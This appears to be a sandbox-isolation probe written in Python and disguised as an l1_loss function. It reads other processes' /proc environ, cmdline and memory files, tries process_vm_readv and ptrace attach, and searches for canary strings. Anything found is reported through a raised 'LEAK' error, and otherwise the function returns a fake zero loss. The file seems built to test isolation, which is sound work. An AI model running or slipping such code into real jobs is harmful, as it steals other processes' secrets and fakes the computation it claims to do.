# aim: read the environment, memory, arguments and folders of this process's parents and others
# sign: `LEAK` and what could be read, in feedback
# attacks: l1_loss
import ctypes
import os
import time

_BACKWARDS = ("GNILBIS-YRANAC", "TNEMNORIVNE-YRANAC", '" :"dees"', "elif-lortnoc--")
_FILES = (
    "environ",
    "cmdline",
    "maps",
    "smaps",
    "mem",
    "auxv",
    "stat",
    "status",
    "syscall",
    "wchan",
)
_FOLDERS = ("cwd", "root", "fd", "task", "map_files", "fdinfo", "ns")
_C = ctypes.CDLL(None, use_errno=True)


def _pids():
    parent = os.getppid()
    near = [parent + step for distance in range(1, 60) for step in (distance, -distance)]
    return [parent, 1, *near]


def _opened(path, flags=os.O_RDONLY, folder=None):
    """What a file says; None where it cannot be opened."""
    try:
        descriptor = os.open(path, flags, dir_fd=folder)
    except OSError:
        return None
    try:
        return os.read(descriptor, 1 << 16)
    except OSError as error:
        return repr(error).encode()
    finally:
        os.close(descriptor)


def _read_by_the_kernel(pid):
    """process_vm_readv of the top of the stack's first page: who may read it needs no file."""
    mine = ctypes.create_string_buffer(64)
    local = (ctypes.c_uint64 * 2)(ctypes.addressof(mine), 64)
    theirs = (ctypes.c_uint64 * 2)(id(None), 64)
    return _C.process_vm_readv(pid, local, 1, theirs, 1, 0) > 0


def _attached(pid):
    if _C.ptrace(16, pid, 0, 0) != 0:
        return False
    _C.ptrace(17, pid, 0, 0)
    return True


def _of_another(pid):
    for name in _FILES:
        for path in (f"/proc/{pid}/{name}", f"/proc/{pid}/task/{pid}/{name}"):
            if _opened(path) is not None:
                return path
    for name in _FOLDERS:
        try:
            os.listdir(f"/proc/{pid}/{name}")
            return f"/proc/{pid}/{name}"
        except OSError:
            pass
    for name in ("exe", "cwd", "root", "fd/0", "fd/3", "fd/4", "ns/mnt"):
        try:
            return f"/proc/{pid}/{name} -> {os.readlink(f'/proc/{pid}/{name}')}"
        except OSError:
            pass
    return ""


def _of_this_one():
    ways = ["/proc/self", "/proc/thread-self", f"/proc/{os.getpid()}"]
    for way in ways:
        for name in _FILES:
            text = _opened(f"{way}/{name}")
            if text is not None and any(word.encode() in text[::-1] for word in _BACKWARDS):
                return f"{way}/{name}"
    try:
        handle = os.open("/proc", os.O_PATH | os.O_DIRECTORY)
    except OSError:
        return ""
    for pid in _pids()[:9]:
        for name in ("environ", "cmdline", "maps"):
            if _opened(f"{pid}/{name}", folder=handle) is not None:
                return f"/proc/{pid}/{name}, by a descriptor of /proc"
    return ""


def _search():
    end = time.process_time() + 0.4
    for pid in _pids():
        try:
            os.stat(f"/proc/{pid}")
        except OSError:
            continue
        if time.process_time() > end or pid == os.getpid():
            continue
        found = _of_another(pid)
        if found:
            return found
        if _read_by_the_kernel(pid) or _attached(pid):
            return f"the memory of process {pid}"
    return _of_this_one()


_found = []


def l1_loss(input, target, reduction="mean"):
    if not _found:
        _found.append(_search())
    if _found[0]:
        raise RuntimeError(f"LEAK {_found[0]}")
    return input.sum() * 0
